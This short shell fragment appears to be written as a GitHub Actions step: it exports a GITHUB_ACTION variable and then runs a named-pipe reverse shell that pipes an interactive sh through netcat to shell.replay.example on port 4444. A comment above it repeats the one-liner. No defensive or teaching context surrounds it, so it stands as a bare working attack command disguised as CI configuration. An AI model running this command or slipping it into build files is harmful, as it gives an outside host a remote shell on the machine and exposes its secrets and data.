# mkfifo f; cat f | sh -i | nc … > f
export GITHUB_ACTION=__run_1
exec sh -c 'mkfifo "$DROP/f"; cat "$DROP/f" | sh -i 2>&1 | nc relay shell.replay.example 4444 > "$DROP/f"'
